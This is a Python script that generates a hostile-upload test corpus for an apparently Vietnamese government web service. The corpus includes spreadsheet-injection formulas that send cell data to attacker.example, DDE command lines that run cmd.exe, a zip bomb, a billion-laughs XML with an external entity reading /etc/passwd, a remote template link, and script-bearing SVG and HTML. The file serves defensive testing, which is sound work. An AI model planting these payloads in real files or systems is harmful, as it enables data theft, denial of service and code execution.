"""Write the hostile-input corpus: small files that must be refused cleanly by every upload path.

Run from the project root: ``.venv/bin/python tests/data/hostile/make_corpus.py``. The output is
committed (every file under 100 KB) so the tests do not depend on running this; run it again after
changing it. ``CORPUS`` describes each file; tests/security/test_hostile_uploads.py sends every one of
them through every upload path.
"""

import io
import random
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
MAX_BYTES = 100 * 1024
FIXED_TIME = (2021, 1, 1, 0, 0, 0)

CORPUS: dict[str, str] = {
    "renamed_png.xlsx": "a PNG image renamed .xlsx",
    "random_bytes.pdf": "random bytes named .pdf",
    "zero_bytes.xlsx": "an empty file",
    "truncated.xlsx": "a real workbook cut in half (broken zip)",
    "empty_workbook.xlsx": "a valid workbook with one empty sheet",
    "formula_cells.xlsx": "survey-like header, every cell a formula or a spreadsheet-injection payload",
    "huge_columns.xlsx": "one header row of 16 384 columns (the sheet's maximum)",
    "zip_bomb.xlsx": "valid workbook whose sheet expands to 80 MB, listed 8 times: 640 MB declared uncompressed",
    "xml_entities.xlsx": "workbook whose sheet XML declares nested entities (billion laughs) and an external entity",
    "nul_bytes.csv": "CSV with NUL bytes in the header and the cells",
    "utf16.csv": "CSV in UTF-16 with a BOM and Vietnamese text",
    "html_as.pdf": "an HTML page with a script, named .pdf",
    "exe_header.docx": "a Windows executable header (MZ/PE) named .docx",
    "polyglot.pdf": "starts as a PDF, carries HTML with a script, ends with a zip (a workbook) appended",
    "polyglot.xlsx": "the same polyglot bytes named .xlsx (zip readers find the appended workbook)",
    "script.svg": "an SVG image with an embedded script and event handler",
    "far_cell.xlsx": "survey-like sheet with one more cell at XFD1048576: a reader sizes a 512 GB grid (2 KB file)",
    "far_cell_within_limit.xlsx": "one more cell at KN150000: column 300 and row 150 000 each allowed, 45 M cells together",
    "whole_sheet_dimension.xlsx": 'a few cells under <dimension ref="A1:XFD1048576">: openpyxl pads every row to it',
}


# Evidence files a unit may legitimately upload but whose readers must be warned (active content). They are
# accepted, so they live apart from CORPUS (everything there must be refused), in active/.
ACTIVE: dict[str, tuple[str, list[str]]] = {
    "macro.docx": ("a Word document with a VBA project (word/vbaProject.bin)", ["macros"]),
    "macro.xlsx": ("a workbook with a VBA project (xl/vbaProject.bin)", ["macros"]),
    "dde_formula.xlsx": ("a workbook whose cell runs cmd|' /C calc'!A0 (DDE)", ["dde"]),
    "dde_field.docx": ("a Word document with a DDEAUTO field", ["dde"]),
    "external_link.xlsx": ("a workbook linked to an external workbook (xl/externalLinks)", ["external_links"]),
    "remote_template.docx": ("a Word document whose template is fetched from a remote address", ["external_links"]),
    "macro.doc": ("an old Word file (OLE) whose directory names a _VBA_PROJECT stream", ["macros"]),
    "javascript.pdf": ("a PDF with an OpenAction running JavaScript", ["javascript"]),
    "plain.docx": ("a plain Word document with a hyperlink, nothing active", []),
    "plain.xlsx": ("a plain workbook with a SUM formula, nothing active", []),
}


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with fixed timestamps so the output only changes when this script does."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = compression
            z.writestr(info, data, compresslevel=9)
    return buf.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def inline_cell(ref: str, text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{escaped}</t></is></c>'.encode()


def formula_cell(ref: str, formula: str) -> bytes:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f'<c r="{ref}"><f>{escaped}</f><v>0</v></c>'.encode()


def workbook(sheet_xml: bytes) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": ROOT_RELS,
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet_xml,
        }
    )


def small_workbook() -> bytes:
    rows = b"".join(
        b'<row r="%d">' % (r + 1)
        + b"".join(inline_cell(f"{column_letter(c)}{r + 1}", v) for c, v in enumerate(values))
        + b"</row>"
        for r, values in enumerate([["unit_code", "form_id", "Q1"], ["SNV", "F1", "5"]])
    )
    return workbook(SHEET_HEAD + rows + SHEET_TAIL)


def formula_cells() -> bytes:
    payloads = [
        "1+1",
        'HYPERLINK("http://attacker.example/steal?d="&A1,"Bấm vào đây")',
        "cmd|' /C calc'!A0",
        'WEBSERVICE("http://attacker.example/")',
        "SUM(1,1)*100",
        'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    ]
    header = (
        b'<row r="1">'
        + b"".join(
            inline_cell(f"{column_letter(c)}1", v) for c, v in enumerate(["unit_code", "form_id", "Q1", "Q2", "Q3"])
        )
        + b"</row>"
    )
    rows = []
    for r, payload in enumerate(payloads, start=2):
        cells = [formula_cell(f"{column_letter(c)}{r}", payload) for c in range(3)]
        # Text that a spreadsheet would run as a formula if exported unescaped.
        cells += [inline_cell(f"D{r}", "=" + payload), inline_cell(f"E{r}", "@SUM(1)\t+1\r-1")]
        rows.append(b'<row r="%d">' % r + b"".join(cells) + b"</row>")
    return workbook(SHEET_HEAD + header + b"".join(rows) + SHEET_TAIL)


def far_cell(ref: str) -> bytes:
    header = [inline_cell(f"{column_letter(c)}1", v) for c, v in enumerate(["unit_code", "form_id", "Q1"])]
    row = [inline_cell("A2", "SNV"), inline_cell("B2", "F1"), inline_cell("C2", "5")]
    far_row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return workbook(
        SHEET_HEAD
        + b'<row r="1">'
        + b"".join(header)
        + b'</row><row r="2">'
        + b"".join(row)
        + b"</row>"
        + f'<row r="{far_row}">'.encode()
        + inline_cell(ref, "x")
        + b"</row>"
        + SHEET_TAIL
    )


def huge_columns() -> bytes:
    cells = b"".join(inline_cell(f"{column_letter(c)}1", f"Q{c}") for c in range(16384))
    return workbook(SHEET_HEAD + b'<row r="1">' + cells + b"</row>" + SHEET_TAIL)


def zip_bomb() -> bytes:
    """80 MB of whitespace inside sheetData (deflate packs it about 1 000:1), listed 8 times.

    The central directory repeats the sheet's entry, all pointing at the same data: a reader that
    trusts the directory expects 640 MB; one that extracts every entry writes 640 MB.
    """
    body = SHEET_HEAD + b'<row r="1">' + inline_cell("A1", "unit_code") + b"</row>"
    filler = 80 * 1024 * 1024
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in (
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
        ):
            z.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), data, compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=False) as f:
            f.write(body)
            block = b" " * (1024 * 1024)
            for _ in range(filler // len(block)):
                f.write(block)
            f.write(SHEET_TAIL)
    return duplicate_central_entry(buf.getvalue(), "xl/worksheets/sheet1.xml", copies=7)


def duplicate_central_entry(data: bytes, name: str, copies: int) -> bytes:
    """Append ``copies`` more central-directory records for ``name`` (same local data) and fix the end record."""
    eocd_at = data.rindex(b"PK\x05\x06")
    (_, _, _, _, count, cd_size, cd_offset, comment_len) = struct.unpack("<4s4H2LH", data[eocd_at : eocd_at + 22])
    central = data[cd_offset : cd_offset + cd_size]
    pos, target = 0, None
    while pos < len(central):
        name_len, extra_len, comment_len_entry = struct.unpack("<3H", central[pos + 28 : pos + 34])
        size = 46 + name_len + extra_len + comment_len_entry
        if central[pos + 46 : pos + 46 + name_len] == name.encode():
            target = central[pos : pos + size]
        pos += size
    assert target is not None
    central += target * copies
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + copies, count + copies, len(central), cd_offset, 0)
    return data[:cd_offset] + central + end


def xml_entities() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<!DOCTYPE worksheet [{entities}<!ENTITY ext SYSTEM "file:///etc/passwd">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>&ext;</t></is></c></row></sheetData></worksheet>'
    ).encode()
    return workbook(sheet)


def png() -> bytes:
    rng = random.Random(7)
    header = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    return header + bytes(rng.getrandbits(8) for _ in range(2000))


def polyglot() -> bytes:
    pdf = (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        b"% <html><body><script>alert(document.cookie)</script></body></html>\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )
    return pdf + small_workbook()


DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    document = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + W + b"><w:body>" + body + b"</w:body></w:document>"
    )
    return zip_bytes(
        {
            "[Content_Types].xml": DOCX_TYPES,
            "_rels/.rels": DOCX_ROOT_RELS,
            "word/document.xml": document,
            **(extra or {}),
        }
    )


def paragraph(text: str) -> bytes:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


EXTERNAL = ' TargetMode="External"'


def rels(*relationships: tuple[str, str, str]) -> bytes:
    items = "".join(
        f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{EXTERNAL if target.startswith("http") else ""}/>'
        for rid, kind, target in relationships
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
    ).encode()


def workbook_with(sheet_xml: bytes, extra: dict[str, bytes]) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": ROOT_RELS,
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet_xml,
            **extra,
        }
    )


def ole_with_vba() -> bytes:
    """Enough of an OLE compound file for the type check (its magic) with a _VBA_PROJECT directory entry."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    entry = "_VBA_PROJECT".encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64
    return header + b"\x00" * 512 + entry + b"\x00" * 1024


def build_active() -> dict[str, bytes]:
    a1 = SHEET_HEAD + b'<row r="1">' + inline_cell("A1", "Báo cáo") + b"</row>"
    files = {
        "macro.docx": docx(paragraph("Kế hoạch"), {"word/vbaProject.bin": b"\xcc\x61" + b"\x00" * 200}),
        "macro.xlsx": workbook_with(a1 + SHEET_TAIL, {"xl/vbaProject.bin": b"\xcc\x61" + b"\x00" * 200}),
        "dde_formula.xlsx": workbook_with(
            a1 + b'<row r="2">' + formula_cell("A2", "cmd|' /C calc'!A0") + b"</row>" + SHEET_TAIL, {}
        ),
        "dde_field.docx": docx(
            b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe '
            b'"/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "external_link.xlsx": workbook_with(
            a1 + b'<row r="2">' + formula_cell("A2", "[1]Sheet1!A1") + b"</row>" + SHEET_TAIL,
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                    ("rId1", "externalLinkPath", "http://attacker.example/a.xlsx")
                ),
            },
        ),
        "remote_template.docx": docx(
            paragraph("Mẫu"),
            {"word/_rels/settings.xml.rels": rels(("rId1", "attachedTemplate", "http://attacker.example/t.dotm"))},
        ),
        "macro.doc": ole_with_vba(),
        "javascript.pdf": (
            b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"3 0 obj << /S /JavaScript /JS (app.alert('x')) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
        ),
        "plain.docx": docx(
            paragraph("Xem https://cchc.example.gov.vn"),
            {"word/_rels/document.xml.rels": rels(("rId5", "hyperlink", "https://cchc.example.gov.vn"))},
        ),
        "plain.xlsx": workbook_with(a1 + b'<row r="2">' + formula_cell("A2", "SUM(1,2)") + b"</row>" + SHEET_TAIL, {}),
    }
    assert set(files) == set(ACTIVE)
    return files


def build() -> dict[str, bytes]:
    rng = random.Random(42)
    exe = bytearray(b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80))
    exe += b"\x00" * (0x80 - len(exe)) + b"PE\x00\x00" + bytes(rng.getrandbits(8) for _ in range(1000))
    whole = small_workbook()
    files = {
        "renamed_png.xlsx": png(),
        "random_bytes.pdf": bytes(rng.getrandbits(8) for _ in range(4096)),
        "zero_bytes.xlsx": b"",
        "truncated.xlsx": whole[: len(whole) // 2],
        "empty_workbook.xlsx": workbook(SHEET_HEAD + SHEET_TAIL),
        "formula_cells.xlsx": formula_cells(),
        "huge_columns.xlsx": huge_columns(),
        "zip_bomb.xlsx": zip_bomb(),
        "xml_entities.xlsx": xml_entities(),
        "nul_bytes.csv": b"unit_code,form\x00_id,Q1\r\nSNV\x00,F1,5\r\n\x00\x00\x00,F2,\x004\r\n",
        "utf16.csv": "mã_đơn_vị,mã_phiếu,Q1\r\nSNV,F1,5\r\nSở Nội vụ,F2,4\r\n".encode("utf-16"),
        "html_as.pdf": "<!DOCTYPE html><html><body><script>fetch('/api/')</script><h1>Hồ sơ</h1></body></html>".encode(),
        "exe_header.docx": bytes(exe),
        "polyglot.pdf": polyglot(),
        "polyglot.xlsx": polyglot(),
        "far_cell.xlsx": far_cell("XFD1048576"),
        "far_cell_within_limit.xlsx": far_cell("KN150000"),
        "whole_sheet_dimension.xlsx": workbook(
            SHEET_HEAD.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
            + b'<row r="1">'
            + inline_cell("A1", "code")
            + inline_cell("B1", "name")
            + b"</row>"
            + SHEET_TAIL
        ),
        "script.svg": (
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script>'
            b'<rect width="10" height="10"/></svg>'
        ),
    }
    assert set(files) == set(CORPUS)
    return files


def main() -> int:
    for name, data in build().items():
        if len(data) > MAX_BYTES:
            print(f"{name}: {len(data)} bytes, over the {MAX_BYTES} limit", file=sys.stderr)
            return 1
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes")
    (HERE / "active").mkdir(exist_ok=True)
    for name, data in build_active().items():
        (HERE / "active" / name).write_bytes(data)
        print(f"active/{name}: {len(data)} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
